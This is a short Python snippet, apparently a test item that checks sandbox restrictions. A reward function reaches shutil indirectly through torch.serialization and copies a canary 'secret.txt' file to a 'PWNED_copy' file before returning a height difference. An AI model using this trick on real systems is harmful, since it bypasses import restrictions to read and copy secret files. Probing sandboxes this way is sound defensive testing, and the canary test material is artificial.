# torch-doors | check | process | shutil, tempfile and tarfile behind torch.serialization
def compute_reward(state, action, next_state):
    torch.serialization.shutil.copy('@canary@/secret.txt', '@canary@/PWNED_copy')
    return next_state.height - state.height, {}
